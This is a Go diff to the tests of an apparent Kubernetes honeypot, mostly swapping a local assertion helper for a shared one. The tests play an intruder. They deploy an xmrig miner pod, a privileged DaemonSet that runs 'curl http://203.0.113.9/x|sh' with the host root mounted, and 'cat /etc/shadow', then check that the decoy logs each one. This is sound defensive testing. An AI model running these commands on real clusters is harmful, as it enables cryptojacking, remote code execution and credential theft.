@@ -45,15 +45,6 @@ func get(t *testing.T, d *decoytest.Decky, path string, args ...string) string {
 	return out
 }
 
-func contains(t *testing.T, out string, wants ...string) {
-	t.Helper()
-	for _, want := range wants {
-		if !strings.Contains(out, want) {
-			t.Errorf("%q is not in\n%s", want, out)
-		}
-	}
-}
-
 func TestAnonymousUsersAreRefusedAsByKubernetes(t *testing.T) {
 	t.Parallel()
 	d := decoytest.StartAs(t, such(t, false), "k8s")
@@ -86,12 +77,12 @@ func TestAnonymousUsersAreRefusedAsByKubernetes(t *testing.T) {
 			t.Errorf("%s gives\n%s\nwant\n%s", path, got, want)
 		}
 	}
-	contains(t, get(t, d, "/apis/apps/v1/deployments?limit=500"), `deployments.apps is forbidden: User \"system:anonymous\" cannot list resource \"deployments\" in API group \"apps\" at the cluster scope`)
-	contains(t, get(t, d, "/version"), `"gitVersion": "`+newServer(d.Host).version.GitVersion+`"`)
-	contains(t, get(t, d, "/api", "-H", "Authorization: Bearer guessed"), `"message": "Unauthorized"`, `"code": 401`)
+	servicetest.Contains(t, get(t, d, "/apis/apps/v1/deployments?limit=500"), `deployments.apps is forbidden: User \"system:anonymous\" cannot list resource \"deployments\" in API group \"apps\" at the cluster scope`)
+	servicetest.Contains(t, get(t, d, "/version"), `"gitVersion": "`+newServer(d.Host).version.GitVersion+`"`)
+	servicetest.Contains(t, get(t, d, "/api", "-H", "Authorization: Bearer guessed"), `"message": "Unauthorized"`, `"code": 401`)
 	d.Wait(event.AuthAttempt, decoytest.Has(event.SecretKind, "bearer"), decoytest.Has(event.Secret, "guessed"), decoytest.Has(event.Outcome, event.Rejected))
 	d.Wait("request", decoytest.Has("path", "/api/v1/namespaces/default/pods"), decoytest.Has("status", "403"), decoytest.Has(event.DstPort, "6443"))
-	contains(t, get(t, d, "/api/v1/secrets", "-H", "Authorization: Bearer "+newServer(d.Host).cluster.token), `"kind": "SecretList"`)
+	servicetest.Contains(t, get(t, d, "/api/v1/secrets", "-H", "Authorization: Bearer "+newServer(d.Host).cluster.token), `"kind": "SecretList"`)
 	d.Wait(event.AuthAttempt, decoytest.Has(event.Outcome, event.Accepted))
 }
 
@@ -99,7 +90,7 @@ func TestTheCertificateIsTheClustersOwn(t *testing.T) {
 	t.Parallel()
 	d := decoytest.Start(t, "k8s")
 	out, _ := servicetest.Run(t, "", "sh", "-c", "openssl s_client -connect "+d.Address(6443)+" -alpn h2 </dev/null 2>/dev/null | openssl x509 -noout -subject -issuer -ext subjectAltName")
-	contains(t, out, "subject=CN = kube-apiserver", "issuer=CN = kubernetes", "DNS:kubernetes.default.svc.cluster.local", "IP Address:10.96.0.1")
+	servicetest.Contains(t, out, "subject=CN = kube-apiserver", "issuer=CN = kubernetes", "DNS:kubernetes.default.svc.cluster.local", "IP Address:10.96.0.1")
 	again, err := newServer(d.Host).certificate()
 	if err != nil || len(again.Certificate) != 1 {
 		t.Errorf("%v", err)
@@ -131,7 +122,7 @@ func TestKubectlLooksAround(t *testing.T) {
 		if err != nil && !strings.Contains(out, "NotFound") && !strings.Contains(args, "db-0 -o yaml") {
 			t.Errorf("kubectl %s: %v\n%s", args, err, out)
 		}
-		contains(t, out, wants...)
+		servicetest.Contains(t, out, wants...)
 	}
 }
 
@@ -141,10 +132,10 @@ func TestWhatAnIntruderCreatesIsRecordedAndShown(t *testing.T) {
 	if err != nil {
 		t.Errorf("%v\n%s", err, out)
 	}
-	contains(t, out, "pod/miner created")
+	servicetest.Contains(t, out, "pod/miner created")
 	d.Wait("k8s_change", decoytest.Has("verb", "create"), decoytest.Has("resource", "pods"), decoytest.Has("image", "evil/xmrig"), decoytest.Has(event.Command, "/xmrig -o pool:3333"))
 	out, _ = kubectl(t, d, "", "get", "pods")
-	contains(t, out, "miner", "1/1", "Running")
+	servicetest.Contains(t, out, "miner", "1/1", "Running")
 	const set = `{"apiVersion":"apps/v1","kind":"DaemonSet","metadata":{"name":"kube-controller"},"spec":{"selector":{"matchLabels":{"a":"b"}},"template":{"metadata":{"labels":{"a":"b"}},"spec":{"hostPID":true,
 		"containers":[{"name":"x","image":"alpine","command":["sh","-c","curl http://203.0.113.9/x|sh"],"securityContext":{"privileged":true}}],"volumes":[{"name":"h","hostPath":{"path":"/"}}]}}}}`
 	file := filepath.Join(t.TempDir(), "set.json")
@@ -160,12 +151,12 @@ func TestWhatAnIntruderCreatesIsRecordedAndShown(t *testing.T) {
 	if err == nil {
 		t.Error("a command in a pod seems to work")
 	}
-	contains(t, out, "connection refused")
+	servicetest.Contains(t, out, "connection refused")
 	d.Wait(event.CommandRun, decoytest.Has(event.Command, "cat /etc/shadow"), decoytest.Has("pod", "miner"))
 	out, _ = kubectl(t, d, "", "delete", "pod", "miner", "--wait=false")
-	contains(t, out, `pod "miner" deleted`)
+	servicetest.Contains(t, out, `pod "miner" deleted`)
 	out, _ = kubectl(t, d, "", "get", "pods")
-	contains(t, out, "No resources found")
+	servicetest.Contains(t, out, "No resources found")
 }
 
 func TestAnOpenClusterOverTLS(t *testing.T) {
@@ -174,8 +165,8 @@ func TestAnOpenClusterOverTLS(t *testing.T) {
 	if err != nil || !strings.Contains(out, "kube-system") {
 		t.Errorf("%v\n%s", err, out)
 	}
-	contains(t, get(t, d, "/"), `"paths": [`, `"/apis/apps/v1"`)
-	contains(t, get(t, d, "/api/v1/nonsense"), "the server could not find the requested resource")
+	servicetest.Contains(t, get(t, d, "/"), `"paths": [`, `"/apis/apps/v1"`)
+	servicetest.Contains(t, get(t, d, "/api/v1/nonsense"), "the server could not find the requested resource")
 	if got := get(t, d, "/nonsense"); got != "404 page not found\n" {
 		t.Errorf("an unknown path gives %q", got)
 	}
@@ -197,7 +188,7 @@ func TestScannerNamesTheProduct(t *testing.T) {
 	if err != nil {
 		t.Errorf("nmap: %v", err)
 	}
-	contains(t, out, "commonName=kube-apiserver", "Issuer: commonName=kubernetes")
+	servicetest.Contains(t, out, "commonName=kube-apiserver", "Issuer: commonName=kubernetes")
 }
 
 func TestDeckiesDifferAndStay(t *testing.T) {
